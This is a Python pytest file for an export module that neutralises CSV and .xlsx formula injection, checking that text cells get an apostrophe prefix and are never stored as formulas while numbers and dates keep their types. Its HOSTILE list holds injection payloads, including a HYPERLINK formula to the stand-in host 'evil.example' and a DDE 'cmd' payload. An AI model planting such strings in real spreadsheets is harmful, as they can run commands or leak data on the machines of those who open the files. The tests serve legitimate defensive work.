"""The export kit (shared.exports): no text cell of a CSV or .xlsx export is ever evaluated by
a spreadsheet, while numbers and dates stay typed (issue 14)."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from shared.exports import append_row, csv_cell, csv_writer, is_dangerous, set_cell

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x","click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\n@x",
]
HARMLESS = ["Deluxe King", "北京王府井希尔顿酒店", "a=b", "", "1-2", "All queues"]


@pytest.mark.parametrize("text", HOSTILE)
def test_dangerous_texts_are_recognised(text: str) -> None:
    assert is_dangerous(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_texts_are_left_alone(text: str) -> None:
    assert not is_dangerous(text)
    assert csv_cell(text) == text


def test_csv_quotes_dangerous_text_and_keeps_numbers_and_dates() -> None:
    out = io.StringIO()
    writer = csv_writer(out)
    writer.writerow(["name", "n"])
    writer.writerows([[text, -5] for text in HOSTILE] + [["Deluxe King", Decimal("-1.50")]])
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows[0] == ["name", "n"]
    for text, row in zip(HOSTILE, rows[1:], strict=False):
        assert row == ["'" + text, "-5"]  # negative numbers stay numbers
    assert rows[-1] == ["Deluxe King", "-1.50"]


def test_xlsx_never_stores_a_formula_and_keeps_the_text_and_types() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for text in HOSTILE:
        append_row(sheet, [text, -5, 2.5, date(2026, 12, 1), None, "Deluxe King"])
    set_cell(sheet, 20, 1, "=1+1")
    buffer = io.BytesIO()
    book.save(buffer)

    loaded = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert loaded is not None
    for number, text in enumerate(HOSTILE, start=1):
        name, negative, price, night, blank, plain = loaded[number][:6]
        assert name.data_type == "s"
        # XML reads a lone carriage return back as a line feed; the text is otherwise as given.
        assert name.value == text.replace("\r", "\n")
        assert name.quotePrefix  # Excel keeps it text even when the cell is edited
        assert (negative.value, negative.data_type) == (-5, "n")
        assert (price.value, price.data_type) == (2.5, "n")
        assert night.value == datetime(2026, 12, 1) and night.is_date
        assert blank.value is None
        assert (plain.value, plain.data_type, plain.quotePrefix) == ("Deluxe King", "s", False)
    assert (loaded["A20"].value, loaded["A20"].data_type) == ("=1+1", "s")
    xml = _sheet_xml(buffer.getvalue())
    assert "<f>" not in xml and "<f " not in xml  # no formula element anywhere


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()
